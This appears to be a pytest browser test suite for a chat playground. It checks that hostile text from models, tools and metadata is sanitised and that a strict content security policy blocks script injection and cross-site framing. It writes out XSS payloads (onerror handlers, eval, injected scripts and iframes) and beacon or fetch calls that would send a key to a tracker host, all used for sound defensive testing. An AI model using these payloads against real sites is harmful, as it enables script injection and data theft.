"""Texts that would be code: from models, tools, metadata, names. None runs, none fetches, none restyles the page.

The page is the built one under its own policy; what the policy had to block fails these tests too (see `open_page`):
the sanitiser is to leave it nothing to do.
"""

import json
import re
from pathlib import Path
from typing import Any

import httpx2
import pytest
from tests.harness.replies import Call, Reply
from tests.harness.upstream import Upstream
from tests.harness.wire import Wire, function_tool
from tests.keys.hostile import Site
from tests.playground.conftest import OpenPage, visit
from tests.playground.test_chat import say

TEXTS: dict[str, str] = json.loads((Path(__file__).parent / "hostile.json").read_text())
ALL = "\n\n".join(TEXTS.values())

ADD = "document.body.append(Object.assign(document.createElement({}), {}))"
ATTEMPTS = {
    "markup": "document.body.innerHTML = '<img src=x onerror=window.hacked=1>'",
    "a script": ADD.format("'script'", "{text: 'window.hacked=1'}"),
    "a foreign script": ADD.format("'script'", "{src: ELSEWHERE}"),
    "eval": "eval('window.hacked = 1')",
    "a function of text": "new Function('window.hacked = 1')()",
    "a handler": "document.body.setAttribute('onclick', 'window.hacked = 1'); document.body.click()",
    "a policy": "trustedTypes.createPolicy('mine', {createHTML: text => text}); window.hacked = 1",
    "the key's policy": "trustedTypes.createPolicy('understudy-key', {}); window.hacked = 1",
    "a style": ADD.format("'style'", "{textContent: 'main{display:none}'}"),
    "a picture": ADD.format("'img'", "{src: ELSEWHERE}"),
    "a frame": ADD.format("'iframe'", "{src: ELSEWHERE}"),
    "a call": "fetch(ELSEWHERE)",
    "a beacon": "navigator.sendBeacon(ELSEWHERE, 'key')",
    "a base": "document.head.append(Object.assign(document.createElement('base'), {href: ELSEWHERE}))",
}

INSPECT = """() => {
  const bad = [];
  for (const node of document.querySelectorAll("*")) {
    for (const { name, value } of node.attributes) {
      if (/^on|^style$|^srcdoc$/.test(name) && !node.matches("textarea")) bad.push(`${node.tagName} ${name}=${value}`);
      const leads = /^(href|src|action|data|xlink:href)$/.test(name);
      if (leads && /^\\s*(javascript|data|vbscript):/i.test(value)) bad.push(value);
    }
  }
  const inside = "main :is(script, style, iframe, object, embed, base, meta, form[action], link, svg script)";
  for (const node of document.querySelectorAll(inside)) bad.push(node.outerHTML.slice(0, 200));
  for (const image of document.querySelectorAll("main img")) if (!/^blob:/.test(image.src)) bad.push(image.src);
  if (window.hacked) bad.push("something ran");
  return bad;
}"""


def watch(page: Any, origin: str) -> list[str]:
    """Return the list into which come dialogs, and requests to anywhere else."""
    seen: list[str] = []
    page.on("request", lambda request: request.url.startswith((origin, "blob:")) or seen.append(request.url))
    page.on("dialog", lambda dialog: (seen.append(dialog.message), dialog.dismiss()))
    page.on("popup", lambda popup: seen.append(popup.url))
    return seen


@pytest.mark.timeout(300)
def test_what_a_model_says_stays_text(page: Any, wire: Wire, upstream: Upstream) -> None:
    wire.assistant(name="Echo")
    page.goto("/")
    seen = watch(page, page.url.split("#")[0])
    for name, text in TEXTS.items():
        upstream.script(
            Reply(tokens=[text[place : place + 9] for place in range(0, len(text), 9)] + [f"\n\nEnd: {name}."])
        )
        say(page, name)
        page.get_by_role("log").get_by_text(f"End: {name}.", exact=True).wait_for()
        page.get_by_role("button", name="Send").wait_for()
        assert page.evaluate(INSPECT) == [], name
    links = page.locator(".markdown a").evaluate_all("links => links.map(link => link.href)")
    assert links
    assert all(re.match(r"https?://(example\.com|tracker\.test)/", link) for link in links), links
    assert seen == []


def test_what_users_tools_and_names_say_stays_text(
    server: Any, wire: Wire, upstream: Upstream, open_page: OpenPage
) -> None:
    """One thread with hostile text in every place that a page shows."""
    evil = TEXTS["handler"] + TEXTS["script"]
    assistant = wire.assistant(
        name=evil,
        description=evil,
        instructions=ALL,
        model=evil,
        metadata={evil[:60]: evil},
        tools=[function_tool("f")],
    )
    call = Call("f", json.dumps({"x": ALL}))
    upstream.script(Reply(ALL, calls=[call]), Reply(ALL))
    thread = wire.make("/threads", {"metadata": {"<b>k</b>": evil}, "messages": [{"role": "user", "content": ALL}]})
    run = wire.settle(assistant, thread)
    page = open_page(f"{server.url}/#/chat/{thread['id']}")
    seen = watch(page, server.url)
    page.get_by_label("Output of f").wait_for()
    assert page.evaluate(INSPECT) == []
    wire.submit(run, ALL)
    wire.until(run)
    upstream.script(Reply(calls=[call]))
    wire.settle(assistant, wire.thread(evil))
    for place in (
        f"chat/{thread['id']}",
        f"threads/{thread['id']}",
        "threads",
        "assistants",
        f"assistants/{assistant['id']}",
        "overview",
    ):
        visit(page, place)
        assert page.evaluate(INSPECT) == [], place
    page.goto(f"/#/threads/{thread['id']}")
    for label in page.get_by_role("button", name="Model call").all():
        label.click()
        page.get_by_role("dialog").get_by_text("window.hacked").first.wait_for()
        assert page.evaluate(INSPECT) == []
        page.keyboard.press("Escape")
    assert seen == []


def test_the_attempts_are_no_blanks(open_page: OpenPage, server: Any) -> None:
    """Else the tests above would show nothing: on a page without sanitiser and policy they do get through."""
    page = open_page("about:blank")
    page.route("**/*", lambda route: route.fulfill(body="<main></main>", content_type="text/html"))
    page.goto("http://naive.test/")
    got = []
    for name in ("handler", "nested", "frame"):
        page.goto("http://naive.test/")
        page.evaluate("text => { document.querySelector('main').innerHTML = text }", TEXTS[name])
        page.wait_for_timeout(200)
        got += [name] if page.evaluate("window.hacked") == 1 else []
    assert {"handler", "frame"} <= set(got)
    assert page.evaluate(INSPECT) != []


def test_the_policy_stops_what_would_get_past_the_sanitiser(chromium: Any, server: Any) -> None:
    """As if a library had a hole: markup put into the page, scripts made in it, calls to elsewhere."""
    context = chromium.new_context()
    page = context.new_page()
    tracker = Site()
    page.goto(server.url + "/")
    page.get_by_label("Write a message").wait_for()
    elsewhere = f"http://127.0.0.1:{tracker.port}/?key=1"
    for name, attempt in ATTEMPTS.items():
        code = attempt.replace("ELSEWHERE", repr(elsewhere))
        page.evaluate(f"setTimeout(() => {{ try {{ {code} }} catch {{}} }})")  # the driver's own code may do all
        page.wait_for_timeout(50)
        assert page.evaluate("window.hacked") is None, name
    page.wait_for_timeout(300)
    assert page.locator("main").is_visible()
    assert page.evaluate("document.baseURI") == server.url + "/"
    context.close()
    tracker.close()
    assert tracker.seen == []


def test_the_policy_is_on_every_file_of_the_page(server: Any) -> None:
    page = httpx2.get(server.url + "/")
    policy = page.headers["content-security-policy"]
    directives = dict(part.split(" ", 1) for part in policy.split("; "))
    assert directives["default-src"] == "'none'"
    assert directives["script-src"] == directives["style-src"] == directives["connect-src"] == "'self'"
    assert directives["require-trusted-types-for"] == "'script'"
    assert not re.search(r"unsafe|\*|https?:|data:", policy)
    assert "<style" not in page.text
    assert not re.search(r"<script(?![^>]* src=)", page.text)
    for name in ("app.js", "keyholder.js", "style.css", "icon.svg", "vendor/marked.js"):
        answer = httpx2.get(f"{server.url}/playground/{name}")
        assert answer.headers["content-security-policy"] == policy, name
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert answer.headers["x-frame-options"] == "DENY"


def test_no_other_site_may_frame_the_page(chromium: Any, server: Any) -> None:
    context = chromium.new_context()
    page = context.new_page()
    page.route("http://frames.test/**", lambda route: route.fulfill(
        body=f'<iframe src="{server.url}/"></iframe>', content_type="text/html"))  # fmt: skip
    page.goto("http://frames.test/")
    page.wait_for_timeout(500)
    assert page.frames[1].locator("nav").count() == 0
    context.close()
